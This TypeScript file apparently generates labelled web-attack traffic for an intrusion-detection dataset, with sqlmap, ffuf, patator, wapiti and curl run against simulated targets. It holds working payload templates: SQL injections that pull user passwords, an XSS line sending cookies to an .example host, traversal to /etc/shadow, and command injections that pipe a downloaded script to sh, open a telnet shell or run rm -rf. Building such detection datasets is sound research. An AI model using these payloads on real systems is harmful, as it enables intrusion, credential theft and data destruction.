/** Attacks on web applications: injections, scripts, paths, commands and guessed pages, by lists and by scanners. */
import type { Random } from '../random.ts';
import {
  type EpisodePlan,
  type Family,
  type Stage,
  type Target,
  attacker,
  between,
  byPart,
  episode,
  reachable,
  spread,
} from './episode.ts';

type Payload = (random: Random, round: number) => string;

const sqlInjections: readonly Payload[] = [
  (random, round) =>
    `reading?id=${-round} union select ${'null,'.repeat(round % 9)}name||':'||password from users limit ${random.integer(1, 20)}`,
  (random) => `reading?id=1' and ${random.integer(1, 9999)}=cast((select name from sqlite_master limit 1) as int)--`,
  (random, round) =>
    `search?q=x' and unicode(substr((select password from users limit 1),${1 + Math.floor(round / 7)},1))>${random.integer(32, 126)} and '1' like '1`,
  (random) => `login?user=admin' or '${random.word(4)}'<>'${random.word(4)}' -- &password=x`,
  (random, round) => `reading?id=1;select randomblob(${random.integer(1, 9) * 100_000}) --${'a'.repeat(round % 60)}`,
];
const scripts: readonly Payload[] = [
  (random) => `search?q=<script>alert(${random.integer(1, 9999)})</script>${random.word(random.integer(1, 12))}`,
  (random) => `comment?text=<script>new Image().src='http://${random.word(8)}.example/?c='+document.cookie</script>`,
  (random) =>
    `search?q="><${random.pick(['img', 'svg', 'body', 'iframe', 'input'])} src=x on${random.pick(['error', 'load', 'focus'])}=${random.word(6)}(String.fromCharCode(${Array.from({ length: random.integer(3, 60) }, () => random.integer(40, 120)).join(',')}))>`,
  (random) => `search?q=javascript:/*--></title></style></textarea></script><svg/onload='+/${random.word(5)}/*/`,
];
const intrusions: readonly Payload[] = [
  (random) =>
    `search?q=${'../'.repeat(random.integer(2, 12))}etc/${random.pick(['passwd', 'shadow', 'hosts', 'ssh/sshd_config'])}`,
  (random) =>
    `search?q=;${random.pick(['cat /etc/passwd', 'wget http://x.example/a.sh -O- | sh', 'id', 'busybox telnetd -p 99'])};${random.word(4)}`,
  (random) =>
    `../../${random.pick(['cgi-bin/luci', 'HNAP1', 'boaform/admin/formLogin', 'setup.cgi', 'shell'])}?cd+/tmp;rm+-rf+*;wget+${random.word(9)}`,
];

type Make = (
  stage: Stage,
  target: Target,
  base: string,
) => { argv: string[]; step: string; input?: string; files?: Record<string, string> };

const against =
  (label: EpisodePlan['class'], tool: string, make: Make): Family =>
  (stage) => {
    const target = reachable(stage, 'web');
    if (target === undefined) return undefined;
    const from = attacker(stage);
    const { argv, step, files = {} } = make(stage, target, `http://${target.address}:${target.port}/app/`);
    return episode({
      class: label,
      tool,
      step,
      seconds: stage.random.integer(18, 45),
      origin: from,
      argv,
      files,
      truth: [between(from.address, null)],
      to: target.address,
    });
  };

const encode = (payload: string): string => {
  const [path = '', query = ''] = payload.split(/\?(.*)/s);
  return `${path}?${query
    .split('&')
    .map((part) => encodeURIComponent(part).replace('%3D', '='))
    .join('&')}`;
};

/** Requests of a list; some share a connection, as with scanners; a person's pace, or a program's. */
const curls =
  (kind: string, payloads: readonly Payload[]): Make =>
  ({ random }, _target, base) => {
    const payload = random.pick(payloads);
    const gap = spread(random, 0.03, 2.5);
    const perConnection = random.pick([1, 1, 1, 2, 5, 12]);
    const isPost = random.next() < 0.25;
    const lines = Array.from({ length: Math.ceil(50 / gap) }, (_, round) => {
      const addresses = Array.from(
        { length: perConnection },
        (_unused, index) => base + encode(payload(random, round * perConnection + index)),
      );
      return [random.exponential(gap).toFixed(3), ...addresses].join(' ');
    });
    const agent = random.pick(['sqlmap/1.8', 'Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0', 'python-requests/2.32']);
    const extra = isPost ? `-d ${random.word(random.integer(10, 600))}` : '';
    const script = `while read -r gap list; do curl -s -m 6 ${extra} -A '${agent}' $(printf -- '-o /dev/null %s ' $list); sleep "$gap"; done <{folder}/list`;
    return {
      step: `curl ${kind} ${payloads.indexOf(payload)}, ${perConnection} per connection, every ${(gap * 1000).toFixed(0)} ms${isPost ? ', POST' : ''}`,
      argv: ['bash', '-fc', script],
      files: { list: `${lines.join('\n')}\n` },
    };
  };

/** For tools that put one word after the other behind `path`. */
function wordList(random: Random, payloads: readonly Payload[]): { readonly path: string; readonly list: string } {
  const path = random.pick(['search?q=', 'reading?id=', 'comment?text=']);
  const words = Array.from({ length: 2500 }, (_, round) =>
    encode(random.pick(payloads)(random, round)).replace(/^[^=]*=/, ''),
  );
  return { path, list: `${words.join('\n')}\n` };
}

const ffuf =
  (kind: string, payloads: readonly Payload[]): Make =>
  ({ random }, _target, base) => {
    const { path, list } = wordList(random, payloads);
    const settings = [
      '-t',
      String(random.pick([1, 2, 5, 15])),
      ...random.pick([[], ['-p', spread(random, 0.05, 1.5).toFixed(2)]]),
    ];
    return {
      step: `ffuf ${kind} ${settings.join(' ')}`,
      argv: ['ffuf', '-s', ...settings, '-w', '{folder}/list', '-u', `${base}${path}FUZZ`],
      files: { list },
    };
  };

const patator =
  (kind: string, payloads: readonly Payload[]): Make =>
  ({ random }, _target, base) => {
    const { path, list } = wordList(random, payloads);
    const settings = [
      '-t',
      String(random.pick([1, 2, 5, 10])),
      ...random.pick([[], [`--rate-limit=${spread(random, 0.05, 1.5).toFixed(2)}`]]),
    ];
    const persistent = random.pick([0, 1]);
    return {
      step: `patator ${kind} ${settings.join(' ')}, persistent=${persistent}`,
      argv: [
        'patator',
        'http_fuzz',
        `url=${base}${path}FILE0`,
        '0={folder}/list',
        `persistent=${persistent}`,
        'resolve=nobody.example:198.18.0.1', // pycurl refuses an empty one
        '-x',
        'ignore:code=200',
        ...settings,
      ],
      files: { list },
    };
  };

const sqlmap: Make = ({ random }, _target, base) => {
  const settings = [
    '--batch',
    '--flush-session',
    '--level',
    String(random.integer(1, 3)),
    '--risk',
    String(random.integer(1, 3)),
    '--technique',
    random.pick(['B', 'E', 'U', 'BEU', 'BT']),
    '--threads',
    String(random.pick([1, 1, 3])),
    ...random.pick([[], ['--delay', spread(random, 0.05, 1).toFixed(2)]]),
    ...random.pick([[], ['--random-agent'], ['--keep-alive']]),
  ];
  const page = random.pick(['reading?id=12', 'search?q=abc', 'login?user=admin&password=x']);
  return {
    step: `sqlmap ${settings.join(' ')}`,
    argv: ['sqlmap', '-u', `${base}${page}`, '--output-dir', '{folder}/out', ...settings],
  };
};

const wapiti =
  (module: string): Make =>
  ({ random }, _target, base) => {
    const settings = ['-m', module, '--scope', 'page', '-d', '1', '--flush-session', '--no-bugreport'];
    return {
      step: `wapiti ${settings.join(' ')}`,
      argv: [
        'env',
        'HOME={folder}',
        'wapiti',
        '-u',
        `${base}${random.pick(['search?q=abc', 'reading?id=3', 'comment?text=abc'])}`,
        ...settings,
        '-o',
        '{folder}/report',
        '--store-session',
        '{folder}/session',
      ],
    };
  };

/** Pages that might be there: administrators', backups', other makers'. */
const pages: Make = ({ random, part }, target) => {
  const words = Array.from(
    { length: 3000 },
    () =>
      `${random.pick(['admin', 'cgi-bin/', 'backup', 'api/', 'old/', '.git/', 'wp-', ''])}${random.word(random.integer(2, 10))}${random.pick(['', '.php', '.asp', '.bak', '/'])}`,
  );
  const base = `http://${target.address}:${target.port}/`;
  const threads = random.pick([1, 2, 5, 20]);
  if (part === 'test') {
    const pause = spread(random, 0.02, 0.6).toFixed(3);
    return {
      step: `wget pages, pause ${pause} s`,
      argv: [
        'bash',
        '-c',
        `while read -r page; do wget -q -t 1 -T 5 -O /dev/null ${base}$page; sleep ${pause}; done <{folder}/list`,
      ],
      files: { list: `${words.join('\n')}\n` },
    };
  }
  const settings = ['-t', String(threads), ...random.pick([[], ['-p', spread(random, 0.02, 0.7).toFixed(2)]])];
  return {
    step: `ffuf pages ${settings.join(' ')}`,
    argv: ['ffuf', '-s', ...settings, '-w', '{folder}/list', '-u', `${base}FUZZ`],
    files: { list: `${words.join('\n')}\n` },
  };
};

const sqli = 'web_sqli';
const xss = 'web_xss';
const other = 'other_attack';
const choose =
  (tools: Readonly<Record<'train' | 'validation' | 'test', readonly Family[]>>): Family =>
  (stage) =>
    stage.random.pick(byPart(stage.part, tools))(stage);

export const webSqli = choose({
  train: [against(sqli, 'curl list', curls('sqli', sqlInjections))],
  validation: [
    against(sqli, 'curl list', curls('sqli', sqlInjections)),
    against(sqli, 'wapiti', wapiti('sql')),
    against(sqli, 'ffuf', ffuf('sqli', sqlInjections)),
  ],
  test: [
    against(sqli, 'sqlmap', sqlmap),
    against(sqli, 'sqlmap', sqlmap),
    against(sqli, 'ffuf', ffuf('sqli', sqlInjections)),
  ],
});
const xssTools = {
  train: [against(xss, 'curl list', curls('xss', scripts))],
  validation: [against(xss, 'curl list', curls('xss', scripts)), against(xss, 'wapiti', wapiti('xss'))],
  test: [against(xss, 'ffuf', ffuf('xss', scripts)), against(xss, 'wapiti', wapiti('xss,permanentxss'))],
};
/** Of the third edition on also by a tool that validation lacks; sites before it are planned as they were captured. */
const withPatator = { ...xssTools, test: [...xssTools.test, against(xss, 'patator', patator('xss', scripts))] };
export const webXss: Family = (stage) => choose(stage.site.edition >= 3 ? withPatator : xssTools)(stage);
export const webOthers: readonly Family[] = [
  choose({
    train: [against(other, 'curl list', curls('intrusion', intrusions))],
    validation: [against(other, 'curl list', curls('intrusion', intrusions))],
    test: [against(other, 'ffuf', ffuf('intrusion', intrusions))],
  }),
  choose({
    train: [against(other, 'ffuf', pages)],
    validation: [against(other, 'ffuf', pages)],
    test: [against(other, 'wget', pages)],
  }),
];
